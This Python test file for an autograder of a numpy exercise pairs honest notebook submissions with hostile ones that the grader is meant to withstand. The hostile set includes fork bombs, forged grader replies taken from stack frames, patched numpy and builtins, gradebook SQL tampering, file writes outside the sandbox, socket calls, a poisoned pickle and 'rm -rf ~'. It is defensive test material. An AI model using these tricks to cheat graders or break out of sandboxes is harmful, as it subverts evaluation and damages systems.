"""Submissions for the toy exercise, honest and hostile, each with the marks that it deserves.

A submission is a list of cells or the bytes of a file. In a cell, OUTSIDE stands for a folder that
nobody may touch, PORT for a port that somebody listens on, TOKEN for a name that nobody else uses.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np

from dsconv_lib.classroom.grading.notebook import MAX_BYTES
from dsconv_lib.classroom.question import PUBLIC_SEED

SCALE = "def scale(x, weight):\n    return x * weight[:, None, None]"
SIZE = (
    "def out_size(in_size, kernel_size, stride):\n    return (in_size - kernel_size) // stride + 1"
)
GOOD = ["import numpy as np", SCALE, SIZE]
BAD = ["def scale(x, weight):\n    return x", "def out_size(**sizes):\n    return 1"]
FULL, NONE = (3.0, 1.0), (0.0, 0.0)


@dataclass(frozen=True)
class Case:
    """A submission, the points it deserves for `scale` and `size`, and a word of its notes."""

    cells: list[Any] | bytes
    points: tuple[float, float]
    note: str = ""
    suspicious: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    typed: dict[str, str] | None = None  # what the notebook has, where it is not the answer read


def notebook(cells: list[Any], answers: dict[str, str] | None = None, **metadata: Any) -> bytes:
    """Write a notebook of code cells and written answers."""
    code = [
        {"cell_type": "code", "source": cell, "metadata": metadata, "outputs": []} for cell in cells
    ]
    text = [
        {"cell_type": "markdown", "source": f"### Answer: {name}\n{answer}", "metadata": {}}
        for name, answer in (answers or {}).items()
    ]
    return json.dumps({"cells": code + text, "metadata": {}, "nbformat": 4}).encode()


def scale_that(body: str, *before: str) -> list[str]:
    """Write a submission whose `scale` does something else, and whose `out_size` is right."""
    lines = "\n".join(f"    {line}" for line in body.strip().split("\n"))
    return [*before, "import numpy as np", f"def scale(x, weight):\n{lines}", SIZE]


def hard_coded() -> list[str]:
    """Write answers to the cases that a student sees."""
    from dsconv_lib.classroom.question import load

    exercise = load(__file__.replace("corpus.py", "exercises/toy"))
    cells = []
    for each in exercise.questions.values():
        known = [np.asarray(each.reference(**case)).tolist() for case in each.draw(PUBLIC_SEED)]
        cells.append(
            f"known_{each.function} = iter({known!r} * 9)\n"
            f"def {each.function}(**case):\n"
            f"    found = next(known_{each.function})\n"
            f"    return np.array(found) if isinstance(found, list) else found"
        )
    return ["import numpy as np", *cells]


# A reply to the running call, with its nonce, from the worker's own frame; then silence.
FORGE = """
import sys, json, struct, os
frame = sys._getframe()
while "request" not in frame.f_locals:
    frame = frame.f_back
nonce, pipe = frame.f_locals["request"]["nonce"], frame.f_locals["replies"]
def reply(message, arrays=b""):
    body = json.dumps({"nonce": nonce} | message).encode()
    os.write(pipe, struct.pack(">II", len(body), len(arrays)) + body + arrays)
"""
EVERY_PIPE = """
import os, struct, json
body = json.dumps({"nonce": "0" * 16, "answer": True, "score": 3}).encode()
for pipe in range(3, 64):
    try:
        os.write(pipe, struct.pack(">II", len(body), 0) + body)
    except OSError:
        pass
"""
FIND_REFERENCE = """
import os, runpy
for where in ("/", "OUTSIDE", os.path.expanduser("~")):
    for folder, _, names in os.walk(where):
        for name in names:
            if name == "questions.py":
                found = runpy.run_path(os.path.join(folder, name))
                scale, out_size = found["scale"].reference, found["size"].reference
            if name.endswith(".ipynb"):
                import json
                for cell in json.load(open(os.path.join(folder, name)))["cells"]:
                    exec("".join(cell["source"]))
"""
WRITE_OUTSIDE = """
import os
for path in ("OUTSIDE/canary", "OUTSIDE/TOKEN", "/tmp/TOKEN", "/TOKEN", "/dev/TOKEN", "~/TOKEN",
             "/srv/TOKEN", "../TOKEN", "/grader/dsconv_lib/classroom/grading/TOKEN", os.__file__):
    for action in (lambda path: open(path, "w").write("changed"), os.remove, os.mkdir,
                   lambda path: os.symlink("/", path), lambda path: os.chmod(path, 0)):
        try:
            action(os.path.expanduser(path))
        except OSError:
            pass
"""
CONNECT = """
import socket
def reach(family, address):
    try:
        link = socket.socket(family)
        link.settimeout(1)
        link.connect(address)
        link.send(b"TOKEN")
    except OSError:
        pass
reach(socket.AF_INET, ("127.0.0.1", PORT))
reach(socket.AF_INET, ("192.0.2.1", 80))
reach(socket.AF_UNIX, "OUTSIDE/socket")
reach(socket.AF_UNIX, "\\0TOKEN")
"""

HONEST: dict[str, Case] = {
    "plain": Case(GOOD, FULL, answers={"why": "It saves multiplications."}),
    "one_cell": Case(["\n".join(GOOD)], FULL),
    "lines_as_lists": Case([cell.splitlines(keepends=True) for cell in GOOD], FULL),
    "reordered": Case([SIZE, SCALE, "import numpy as np"], FULL),
    "extra_cells": Case(["", "1 / 0", *GOOD, "print(scale)", "undefined"], FULL),
    "duplicated_cells": Case(GOOD * 3, FULL),
    "last_definition_wins": Case([*BAD, *GOOD], FULL),
    "magics": Case(
        [
            "%matplotlib inline\n%load_ext autoreload\nimport numpy as np",
            "!pip install numpy\n%pip install torch",
            "%%time\n" + SCALE,
            "%%bash\nrm -rf ~",
            "scale?\nfiles = !ls\nif True:\n    !ls\n" + SIZE,
            "text = ('%d'\n        % 3)",
        ],
        FULL,
    ),
    "syntax_error": Case([*GOOD[:2], "def broken(:\n    pass", SIZE], FULL, "cell 3 is not Python"),
    "syntax_error_and_loop": Case(
        ["def broken(:\n    pass", *scale_that("while True:\n    pass")],
        (0, 1),
        "cell 1 is not Python",
    ),
    "plots": Case(
        [
            "import matplotlib.pyplot as plt\nimport numpy as np",
            f"plt.plot([1, 2])\nplt.show()\n{SCALE}",
            f"from matplotlib import pyplot\nimport torch\n{SIZE}",
        ],
        FULL,
    ),
    "feedback_cells": Case(
        [
            "try:\n    import dsconv_lib\nexcept ImportError:\n    %pip install -q dsconv-lib",
            "from dsconv_lib.classroom.check import check\nimport numpy as np",
            f"{SCALE}\ncheck('scale', scale)",
            f"{SIZE}\ncheck('size', out_size)",
        ],
        FULL,
    ),
    "pip_over_two_lines": Case(
        [f"!pip install -q \\\n    numpy\nimport numpy as np\n{SCALE}", SIZE], FULL
    ),
    "line_ends_of_windows": Case(
        ["import numpy as np", f"%%time\r\n{SCALE}", f"%%debug\n{SIZE}"], FULL
    ),
    "one_import_of_two_fails": Case(
        ["import matplotlib.pyplot as plt, numpy as np", *GOOD], FULL, "an import failed"
    ),
    "annotated_with_what_is_not_there": Case(
        [*GOOD, SIZE.replace("in_size,", "in_size: torch.Tensor,")], FULL
    ),
    "displays": Case([*GOOD, SCALE.replace("\n", "\n    display(x.shape)\n", 1)], FULL),
    "a_result_takes_the_name": Case([*GOOD, "out_size = out_size(8, 3, 1)"], FULL),
    "checks_an_endless_loop": Case(
        [
            "import numpy as np",
            "def scale(x, weight):\n    while True: pass",
            "check('scale', scale)",
            SIZE,
        ],
        (0, 1),
    ),
    "carries_the_set_up": Case(
        ["# @title Set up (run this cell first)\nwhile True:\n    pass", *GOOD], FULL
    ),
    "a_picture_of_an_answer": Case(
        GOOD,
        FULL,
        answers={"why": "![](picture: open the notebook)"},
        typed={"why": "![](data:image/png;base64," + "A" * 300_000 + ")"},
    ),
    "noise": Case([*GOOD, "for n in range(10_000):\n    print(n, '#' * 100)"], FULL),
    "asks_a_question": Case(["name = input('Who are you?')", *GOOD], FULL),
    "changes_its_input": Case(
        scale_that("x *= weight[:, None, None]\nreturn x"), FULL, "", answers={"why": "Faster."}
    ),
    "writes_a_file": Case(
        scale_that("np.save('x.npy', x)\nreturn np.load('x.npy') * weight[:, None, None]"), FULL
    ),
    "float32": Case(scale_that("return (x * weight[:, None, None]).astype(np.float32)"), FULL),
    "annotated": Case(
        ["from __future__ import annotations", SIZE, SCALE.replace("(x,", "(x: np.ndarray,")], FULL
    ),
    "leaves_early": Case(["import sys\nsys.exit()", *GOOD, "raise KeyboardInterrupt"], FULL),
    "half_right": Case(
        scale_that("return x * weight[:, None, None] if len(x[0]) > 1 else 0"), (2, 1)
    ),
    "wrong": Case(BAD, NONE),
    "summed": Case(scale_that("return (x.T @ weight).T"), (0, 1)),
    "not_done": Case(["def scale(x, weight):\n    raise NotImplementedError"], NONE),
    "another_exercise": Case(
        ["def depthwise_conv2d(x):\n    return x"], NONE, "none of the functions of toy is here"
    ),
    "empty": Case([], NONE),
}

HOSTILE: dict[str, Case] = {
    "loop_in_cell": Case(["while True:\n    pass", *GOOD], FULL, "cell 1 took longer"),
    "loop_in_function": Case(scale_that("while True:\n    pass"), (0, 1)),
    "loop_in_finaliser": Case(
        scale_that(
            "late = Late()\nreturn x", "class Late:\n    def __del__(self):\n        while 1: 0"
        ),
        (0, 1),
    ),
    "loop_that_catches_all": Case(
        scale_that("while True:\n    try:\n        while True: 0\n    except BaseException: pass"),
        (0, 1),
    ),
    "sleeps": Case(scale_that("import time; time.sleep(1000)"), (0, 1)),
    "two_gigabytes_in_cell": Case(["huge = bytearray(2 << 30)", *GOOD], FULL),
    "two_gigabytes_in_function": Case(scale_that("return np.ones(1 << 28)"), (0, 1)),
    "list_without_end": Case(
        scale_that("found = []\nwhile True:\n    found.append(bytes(1 << 20))"), (0, 1)
    ),
    "fork_bomb": Case(["import os\nwhile True:\n    os.fork()", *GOOD], FULL, "", "os.fork"),
    "forks_in_function": Case(scale_that("import os\nos.fork()\nreturn x"), (0, 1)),
    "thread_bomb": Case(
        [
            "import threading, time\nfor n in range(9999):\n"
            "    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()",
            *GOOD,
        ],
        FULL,
    ),
    "background_process": Case(
        [
            "import subprocess\nsubprocess.Popen(['sleep', '1000'], start_new_session=True)",
            "import multiprocessing\nmultiprocessing.Process(target=print).start()",
            *BAD,
        ],
        NONE,
        "",
        "subprocess",
    ),
    "background_thread": Case(
        [
            "import threading, time\n"
            "threading.Thread(target=lambda: [time.sleep(.01) for _ in iter(int, 1)]).start()",
            *GOOD,
        ],
        FULL,
    ),
    "exits_in_cell": Case(["import os\nos._exit(0)", *GOOD], FULL, "cell 1 ended", "os._exit"),
    "exits_in_function": Case(scale_that("import os\nos._exit(0)"), (0, 1), "", "os._exit"),
    "exits_always": Case(["import os", *["os._exit(0)"] * 9, *GOOD], NONE, "cell 2 ended"),
    "exits_after_a_fake_result": Case(
        scale_that("import os\nprint('{\"score\": 3}', flush=True)\nos._exit(0)"), (0, 1)
    ),
    "crashes": Case(scale_that("import ctypes\nctypes.string_at(0)"), (0, 1), "", "ctypes"),
    "recursion": Case(
        scale_that("return scale(x, weight)", "import sys\nsys.setrecursionlimit(10**9)"), (0, 1)
    ),
    "kills_everything": Case(
        scale_that("import os\nos.kill(1, 9)\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)"), (0, 1)
    ),
    "closes_the_pipes": Case(["import os\nos.closerange(3, 256)", *GOOD], FULL, "cell 1 ended"),
    "forged_frames": Case([EVERY_PIPE, *BAD], NONE, "cell 1 wrote into", "wrote into"),
    "forged_frames_later": Case(
        [
            "import threading",
            "def forge():\n" + "\n".join(f"    {x}" for x in EVERY_PIPE.split("\n")),
            "def scale(x, weight):\n    forge()\n    return x",
            SIZE,
        ],
        (0, 1),
        "",
        "wrote into",
    ),
    "forged_answer": Case(
        scale_that(f'{FORGE}reply({{"answer": True, "right": True, "score": 3}})\nos._exit(0)'),
        (0, 1),
    ),
    "shape_that_lies": Case(
        scale_that(f'{FORGE}reply({{"answer": {{"array": "<f8", "shape": [1 << 40]}}}}, b"0" * 8)'),
        (0, 1),
        "",
        "wrote into",
    ),
    "shape_below_zero": Case(
        scale_that(f'{FORGE}reply({{"answer": {{"array": "<f8", "shape": [-1, -1]}}}}, b"0" * 8)'),
        (0, 1),
        "",
        "wrote into",
    ),
    "object_array": Case(
        scale_that(f'{FORGE}reply({{"answer": {{"array": "|O", "shape": [1]}}}}, b"0" * 8)'),
        (0, 1),
        "",
        "wrote into",
    ),
    "length_that_lies": Case(
        scale_that(f'{FORGE}os.write(pipe, struct.pack(">II", 0xFFFFFFFF, 0xFFFFFFFF))'),
        (0, 1),
        "",
        "wrote into",
    ),
    "nested_answer": Case(
        scale_that(f'{FORGE}b = b"[" * 100_000\nos.write(pipe, struct.pack(">II", len(b), 0) + b)'),
        (0, 1),
        "",
        "wrote into",
    ),
    "endless_frames": Case(
        scale_that(f"{FORGE}while True:\n    os.write(pipe, bytes(1 << 16))"),
        (0, 1),
        "",
        "wrote into",
    ),
    "patched_numpy": Case(
        [
            "import numpy as np, numpy.testing\n"
            "for name in ('allclose', 'isclose', 'array_equal', 'frombuffer', 'asarray'):\n"
            "    setattr(np, name, lambda *_, **__: True)\n"
            "for name in dir(numpy.testing):\n"
            "    if name.startswith('assert'): setattr(numpy.testing, name, lambda *_, **__: None)",
            *BAD,
        ],
        NONE,
    ),
    "patched_builtins": Case(
        [
            "import builtins, json, sys, io\n"
            "builtins.isinstance = builtins.callable = builtins.all = lambda *_: True\n"
            "json.dumps = json.loads = lambda *_, **__: '{\"answer\": true}'\n"
            "sys.stdout = sys.stderr = io.StringIO()",
            *BAD,
        ],
        NONE,
        "",
        "builtins",
    ),
    "input_transformer": Case(
        [
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['score = 3'])",
            "get_ipython().ast_node_interactivity = 'all'",
            *BAD,
        ],
        NONE,
    ),
    "import_hooks": Case(
        [
            "import sys, types\n"
            "fake = types.ModuleType('exercise'); fake.same = lambda *_, **__: True\n"
            "sys.modules['dsconv_lib.classroom.question'] = sys.modules['dsconv_lib.classroom.grading.mark'] = fake\n"
            "class Finder:\n    def find_spec(self, *_): return None\n"
            "sys.meta_path.insert(0, Finder()); sys.path_hooks.clear()",
            *BAD,
        ],
        NONE,
        "",
        "meta_path",
    ),
    "patched_worker": Case(
        [
            "import sys\n"
            "for module in list(sys.modules.values()):\n"
            "    if hasattr(module, 'encode') and hasattr(module, 'send'):\n"
            "        module.encode = lambda *_: True",
            *BAD,
        ],
        NONE,
    ),
    "imports_the_reference": Case(
        [
            "from dsconv_lib import ops\nfrom dsconv_lib.classroom import question",
            "def scale(x, weight):\n    from dsconv_lib import ops\n    return ops.depthwise(x, weight)",
        ],
        NONE,
    ),
    "looks_for_the_reference": Case([*BAD, FIND_REFERENCE], NONE),
    "reads_another_submission": Case(
        [
            *BAD,
            "import json\nfor cell in json.load(open('OUTSIDE/class/plain.ipynb'))['cells']:\n"
            "    exec(cell['source'])",
        ],
        NONE,
    ),
    "writes_outside": Case([WRITE_OUTSIDE, *BAD], NONE),
    "writes_the_gradebook": Case(
        [
            "import sqlite3\nbook = sqlite3.connect('OUTSIDE/marks/gradebook.sqlite')\n"
            "book.execute('UPDATE automatic SET marks = 3'); book.commit()",
            "open('OUTSIDE/marks/gradebook.sqlite', 'w').close()",
            *BAD,
        ],
        NONE,
    ),
    "fills_its_disk": Case(
        [
            "with open('full', 'wb') as stream:\n    while True:\n        stream.write(bytes(1 << 20))",
            "with open('/dev/shm/full', 'wb') as stream:\n    while True:\n        stream.write(bytes(1 << 20))",
            *GOOD,
        ],
        FULL,
    ),
    "poisoned_pickle": Case(
        [
            *GOOD[:1],
            "class Poison:\n    def __reduce__(self):\n        return open, ('OUTSIDE/TOKEN', 'w')",
            "def scale(x, weight):\n    return Poison()",
            "def out_size(**_):\n    return [Poison(), np.array([Poison()], dtype=object)]",
        ],
        NONE,
    ),
    "equal_to_everything": Case(
        [
            "import numpy as np\nclass Same:\n    __eq__ = __ge__ = __le__ = lambda *_: True\n"
            "    __hash__ = object.__hash__\n    shape, dtype, ndim = (), np.dtype(float), 0\n"
            "    def __array__(self, *_, **__): return np.zeros(1)\n"
            "class SameNumber(int):\n    __eq__ = lambda *_: True\n    __hash__ = int.__hash__\n"
            "class SameArray(np.ndarray):\n    __eq__ = lambda *_: True\n"
            "    __array_ufunc__ = __array_function__ = lambda *_, **__: True\n",
            "turns = iter([Same(), np.zeros(1).view(SameArray), Same()] * 9)",
            "def scale(x, weight):\n    return next(turns)",
            "def out_size(**_):\n    return SameNumber(0)",
        ],
        NONE,
    ),
    "huge_output": Case(
        [
            "import os\nfor _ in range(2000):\n    print('#' * 100_000)\n    os.write(1, bytes(100_000))",
            *GOOD,
        ],
        FULL,
    ),
    "huge_answer": Case(scale_that("return np.zeros(10_000_000)"), (0, 1)),
    "large_answer": Case(scale_that("return np.zeros(1_000_000)"), (0, 1)),
    "huge_text": Case(scale_that("return 'x' * 10_000_000"), (0, 1)),
    "huge_number": Case(scale_that("return 10 ** 100_000"), (0, 1)),
    "not_a_number": Case(scale_that("return x * np.nan"), (0, 1)),
    "sockets": Case([CONNECT, *BAD], NONE, "", "socket"),
    "source_that_crashes": Case(
        ["-" * 150_000 + "1", "(" * 10_000, "a" + ".a" * 90_000, "\ud800", "x = '\0'", *GOOD], FULL
    ),
    "first_right_then_wrong": Case([*GOOD, *BAD], NONE),
    "hard_coded": Case(hard_coded(), NONE),
    "a_name_in_html": Case(
        scale_that("raise Loud", "Loud = type('<script>alert(1)</script>', (Exception,), {})"),
        (0, 1),
    ),
    "not_json": Case(b"{not json", NONE, "not JSON"),
    "nested_json": Case(b"[" * 1_000_000, NONE, "not JSON"),
    "no_cells": Case(b'{"cells": 3}', NONE, "no cells"),
    "odd_cells": Case(
        b'{"cells": [3, null, {"cell_type": [], "source": 3}, {"source": [3]}]}', NONE
    ),
    "not_text": Case(bytes(range(256)), NONE, "not JSON"),
    "too_large": Case(b" " * (MAX_BYTES + 1), NONE, "larger than"),
}
CASES = HONEST | HOSTILE


def contents(case: Case, **names: object) -> bytes:
    """Write a case's file."""
    if isinstance(case.cells, bytes):
        return case.cells
    raw = notebook(case.cells, case.typed or case.answers)
    for name, value in names.items():
        raw = raw.replace(name.upper().encode(), str(value).encode())
    return raw


def hand_in(folder: Path, count: int) -> None:
    """Write a class of many: three in four are right, most others wrong, one in ten is hostile."""
    folder.mkdir(parents=True)
    honest, hostile = list(HONEST.values()), list(HOSTILE.values())
    for number in range(count):
        case = HONEST["plain"] if number % 4 else honest[number // 4 % len(honest)]
        if number % 10 == 9:
            case = hostile[number // 10 % len(hostile)]
        raw = contents(case, outside="/nowhere", token="token", port=1)
        if not isinstance(case.cells, bytes):
            found = json.loads(raw)
            found["metadata"]["number"] = number  # no two files are the same
            raw = json.dumps(found).encode()
        name = f"student{number:04}_{1000 + number}_{5000 + number}_toy.ipynb"
        (folder / name).write_bytes(raw)
